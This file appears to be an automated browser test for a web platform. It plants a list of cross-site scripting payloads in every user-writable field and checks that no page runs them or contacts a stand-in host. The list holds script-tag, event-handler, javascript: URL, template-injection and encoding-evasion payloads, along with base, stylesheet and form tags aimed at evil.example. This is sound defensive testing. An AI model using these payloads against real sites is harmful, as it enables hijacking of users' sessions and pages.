// Text that tries to become script, in every place where people, repositories and apps can put text, on every page that shows
// it: none of it runs, and none of it is asked to.

import assert from "node:assert/strict";
import test from "node:test";

import { Browser } from "./harness/browser.js";
import { Marmot } from "./harness/marmot.js";
import { eventually } from "./harness/wait.js";
import * as pages from "./pages.js";

/** What is run where any of them is taken for more than text. */
const RUN = "window.pwned=1,alert(1)";
/** Each breaks out of another context: text, attributes of each quoting, scripts, styles, comments, addresses, templates. */
const NAUGHTY = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `"autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}' x='`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="//evil.example"><input name=a><button>x</button></form>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<button hx-get="//evil.example" hx-trigger="load">`,
  `<div hx-on:load="${RUN}">`,
  "${" + RUN + "}",
  "{{constructor.constructor('" + RUN + "')()}}",
  `\u202e<script>${RUN}</script>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\u001b]8;;javascript:${RUN}\u0007click\u001b]8;;\u0007`,
  `\u001b[31m<b onclick=${RUN}>red</b>\u001b[0m`,
  `javascript:${RUN}`,
  `＜script＞${RUN}＜/script＞`,
  `<sCrIpT/x>${RUN}</ScRiPt>`,
  `<\n/script><script\n>${RUN}</script\n>`,
];
const isOneLine = (text) => !/[\u0000-\u001f\u202e]/.test(text);
const LINES = NAUGHTY.filter(isOneLine);
/** A text of at most this many letters that has as many of them as fit, from the one at `first` on. */
const some = (first, letters) => {
  const turned = [...LINES.slice(first % LINES.length), ...LINES.slice(0, first % LINES.length)];
  return turned.reduce((text, next) => (text.length + next.length + 1 > letters ? text : `${text} ${next}`), "").trim();
};

/** Says all of it when it is built and when it runs, and has a file that is called like one. */
const APP = {
  "app.py": `import http.server, os
for line in ${JSON.stringify(NAUGHTY)}:
    print(line, flush=True)
http.server.test(http.server.SimpleHTTPRequestHandler, port=int(os.environ["PORT"]))
`,
  [`<img src=x onerror=${RUN}>.txt`]: "",
};

test("no text that anybody writes becomes a script on any page", { timeout: 300_000 }, async (t) => {
  const marmot = await Marmot.start(t, { idle_after: "10m" });
  const ada = await marmot.createUser("ada", { admin: true });
  const { projects, apps } = await written(marmot, ada);
  const browser = await Browser.launch(t);
  await browser.watched(async () => {
    const profile = await browser.newProfile();
    const page = await profile.newPage();
    const seen = watch(page);
    await pages.signIn(page, marmot.url, ada);
    const everywhere = [
      "/",
      "/settings",
      "/groups",
      "/groups/naughty",
      "/admin",
      "/admin/users",
      "/admin/audit",
      ...projects.flatMap((project) => ["", "/settings", "/audit", "/credentials", "/launchers/new"].map((path) => project + path)),
      ...apps.flatMap((app) => ["", "/edit", "/logs", "/usage", "/share", "/shut-down", "/delete"].map((path) => app + path)),
      `/?q=${encodeURIComponent(some(3, 200))}`,
      `/sign-in?next=${encodeURIComponent(LINES[2])}`,
      `/${encodeURIComponent(LINES[1])}`,
    ];
    for (const path of everywhere) {
      await page.goto(marmot.url + path);
      await page.locator("h1").first().waitFor();
      // What waits for the mouse or the keyboard is given both.
      await page.mouse.move(400, 300);
      await page.keyboard.press("Tab");
      assert.equal(await page.evaluate(() => window.pwned), undefined, path);
      const foreign = await page.evaluate(
        (own) =>
          [...document.querySelectorAll("[src], [href], [action], [data]")]
            .map((element) => element.src || element.href || element.action || element.data)
            .filter((address) => typeof address === "string" && /^javascript:|evil\.example/i.test(address) && !address.startsWith(own)),
        marmot.url,
      );
      assert.deepEqual(foreign, [], path);
    }
    // It was there all the same, as text: the first of them are secrets, which logs do not show.
    for (const [path, text] of [[projects[0], LINES[0]], [`${apps[0]}/logs`, LINES[18]], ["/settings", LINES[4]]]) {
      await page.goto(marmot.url + path);
      await page.getByText(text, { exact: false }).first().waitFor({ state: "attached" });
    }
    assert.deepEqual(seen, [], "no dialog, nothing that the policy of the page had to stop, and nothing asked of anybody else");
  });
  assert.equal(await marmot.stop(), 0);
});

/** What pages did that they should not have. */
function watch(page) {
  const seen = [];
  page.on("dialog", (dialog) => {
    seen.push(`${page.url()}: ${dialog.type()} ${dialog.message()}`);
    dialog.dismiss();
  });
  page.on("console", (message) => {
    if (/Content.Security.Policy|refused to/i.test(message.text())) seen.push(`${page.url()}: ${message.text()}`);
  });
  page.on("request", (request) => {
    if (request.url().includes("evil.example")) seen.push(`${page.url()}: ${request.url()}`);
  });
  return seen;
}

/** Writes them wherever somebody may write; returns the paths of the projects and of their launchers. */
async function written(marmot, ada) {
  const api = (method, call, body) => marmot.api(ada, method, call, body);
  await api("POST", "/groups", { slug: "naughty", name: some(0, 90), description: some(5, 400) });
  await api("POST", "/users", { username: "mallory", first_name: some(1, 60), last_name: some(9, 60) });
  for (const [index, name] of LINES.entries()) await api("POST", "/user/tokens", { name: name.slice(0, 90), scope: index % 2 ? "read" : "write" });
  const projects = [];
  for (const [number, namespace] of ["ada", "naughty"].entries()) {
    const slug = `naughty-${number}`;
    const named = { name: some(number * 7, 90), description: some(number * 11, 400) };
    projects.push(await api("POST", "/projects", { ...named, namespace, slug, visibility: "public" }));
  }
  const repository = await marmot.repositoryOf("naughty", new URL("apps", import.meta.url).pathname, { files: APP, message: some(0, 2000) });
  const launcher = await launcherOf(api, projects[0], repository, 0);
  const broken = await launcherOf(api, projects[1], repository, 13, { repository_revision: "no-such-branch" });
  for (const [index, name] of LINES.entries()) {
    // A project may have so many of them.
    if (index < 12) await api("PUT", `/projects/${projects[0].id}/secrets/SECRET_${index}`, { value: name });
  }
  const started = [];
  for (const { id } of [launcher, broken]) started.push(await api("POST", "/apps", { launcher_id: id }));
  await api("PUT", `/apps/${started[0].name}/access`, { open_to: "link" });
  for (const name of LINES.slice(0, 10)) {
    await api("POST", `/apps/${started[0].name}/share_links`, { name: name.slice(0, 90) });
    await api("POST", `/apps/${started[0].name}/app_keys`, { name: name.slice(0, 90) });
  }
  for (const [app, phase] of [[started[0], "running"], [started[1], "failed"]]) {
    const view = await eventually(
      `${app.name} is ${phase}`,
      async () => {
        const view = await api("GET", `/apps/${app.name}`);
        return ["running", "failed"].includes(view.phase) && view;
      },
      { within: 120_000, every: 250 },
    );
    assert.equal(view.phase, phase, view.reason);
  }
  const path = (project) => `/p/${project.namespace}/${project.slug}`;
  return {
    projects: projects.map(path),
    apps: [`${path(projects[0])}/launchers/${launcher.id}`, `${path(projects[1])}/launchers/${broken.id}`],
  };
}

async function launcherOf(api, project, repository, first, more = {}) {
  return api("POST", "/session_launchers", {
    name: some(first, 90),
    description: some(first + 5, 400),
    project_id: project.id,
    launcher_type: "app",
    env_variables: LINES.map((value, index) => ({ name: `NAUGHTY_${index}`, value })),
    environment: {
      environment_image_source: "build",
      repository,
      builder_variant: "python",
      frontend_variant: "none",
      command: null,
      ...more,
    },
  });
}
